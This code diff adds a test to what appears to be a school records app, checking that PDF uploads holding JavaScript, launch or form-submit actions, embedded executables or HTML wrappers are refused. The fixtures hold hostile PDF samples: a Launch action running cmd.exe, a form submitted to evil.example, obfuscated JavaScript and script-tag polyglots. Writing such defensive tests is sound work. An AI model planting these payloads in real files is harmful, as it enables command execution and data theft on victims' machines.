@@ -6,6 +6,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { deliveryEnv, type Fake46elks, type FakeSmtpServer, startFake46elks, startFakeSmtpServer } from '../../test/fake-providers.ts';
 import { firstChild, optIn, type Child } from '../../test/fixtures.ts';
 import { errorCode, eventually, loggedIn, staffUsername, startTestServer, type TestClient, type TestServer } from '../../test/harness.ts';
+import { noise, objectStreamPdf, onePagePdf, streamObject } from '../../test/pdf-files.ts';
 
 const FIELDS = `id studentId kind summary decidedOn decidedBy documentName documentSize recordedAt
   acknowledgements { name role acknowledgedAt } acknowledgedByMe canAcknowledge`;
@@ -207,6 +208,77 @@ describe('support decisions on pglite', () => {
     expect(cut.status).toBe(400);
     expect(((await cut.json()) as { code: string }).code).toBe('BAD_USER_INPUT');
     expect(await counts()).toEqual(before);
+  });
+
+  it('a PDF with JavaScript, actions or attachments, or not a well-formed PDF, is refused and nothing is saved', async () => {
+    const before = await counts();
+    const clean = onePagePdf();
+    const refusals: [string, Buffer, string][] = [
+      [
+        'JavaScript run on opening',
+        onePagePdf({ catalog: '/OpenAction 5 0 R', objects: ['<</S/JavaScript/JS(app.alert\\(1\\))>>'] }),
+        'PDF_JAVASCRIPT',
+      ],
+      [
+        'JavaScript in a compressed object stream',
+        objectStreamPdf('/OpenAction<</S/J#61vaScript/JS(app.alert\\(1\\))>>'),
+        'PDF_JAVASCRIPT',
+      ],
+      [
+        'a program started on opening',
+        onePagePdf({ catalog: '/OpenAction<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>' }),
+        'PDF_UNSAFE_ACTION',
+      ],
+      [
+        'a form sent elsewhere',
+        onePagePdf({
+          page: '/Annots[5 0 R]',
+          objects: ['<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/SubmitForm/F<</FS/URL/F(https://evil.example/collect)>>>>>>'],
+        }),
+        'PDF_UNSAFE_ACTION',
+      ],
+      [
+        'an embedded file',
+        onePagePdf({
+          catalog: '/Names<</EmbeddedFiles<</Names[(beslut.exe) 5 0 R]>>>>',
+          objects: ['<</Type/Filespec/F(beslut.exe)/EF<</F 6 0 R>>>>', streamObject('/Type/EmbeddedFile', 'MZ')],
+        }),
+        'PDF_EMBEDDED_FILE',
+      ],
+      [
+        'HTML wrapped around a PDF',
+        Buffer.concat([Buffer.from('<html><body><!--'), clean, Buffer.from('--><script>alert(1)</script></body></html>')]),
+        'NOT_A_PDF',
+      ],
+      ['HTML after the end of a PDF', Buffer.concat([clean, Buffer.from('<html><script>alert(1)</script></html>')]), 'PDF_EXTRA_CONTENT'],
+      ['a file cut off', clean.subarray(0, Math.floor(clean.length / 2)), 'PDF_UNREADABLE'],
+      ['random bytes after %PDF-', Buffer.concat([Buffer.from('%PDF-1.7\n'), noise(4096)]), 'PDF_UNREADABLE'],
+      [
+        'random bytes between %PDF- and %%EOF',
+        Buffer.concat([Buffer.from('%PDF-1.7\n'), noise(4096), Buffer.from('\n%%EOF\n')]),
+        'PDF_UNREADABLE',
+      ],
+    ];
+    for (const [what, bytes, problem] of refusals) {
+      const result = await upload(principal, { studentId: child.id, file: { bytes, name: 'beslut.pdf' } });
+      expect({ what, ...result }).toEqual({
+        what,
+        status: 400,
+        body: expect.objectContaining({ code: 'BAD_USER_INPUT', problems: [problem] }),
+      });
+    }
+    // The other fields' problems come with the file's, all at once.
+    const both = await upload(principal, { studentId: child.id, summary: '', file: { bytes: refusals[0]![1], name: 'beslut.pdf' } });
+    expect(both.body.problems).toEqual(['SUMMARY_REQUIRED', 'PDF_JAVASCRIPT']);
+    expect(await counts()).toEqual(before);
+
+    // A clean PDF as a current writer saves it (compressed objects) is stored, and comes back the same.
+    const modern = objectStreamPdf('');
+    const stored = await upload(principal, { studentId: child.id, file: { bytes: modern, name: 'Beslut.pdf' } });
+    expect(stored.status).toBe(201);
+    const response = await download(guardian, stored.body.id ?? '');
+    expect(response.status).toBe(200);
+    expect(Buffer.from(await response.arrayBuffer()).equals(modern)).toBe(true);
   });
 
   it('a teacher, the mentor, a guardian, another school\u2019s principal and no one at all cannot upload; they learn nothing', async () => {
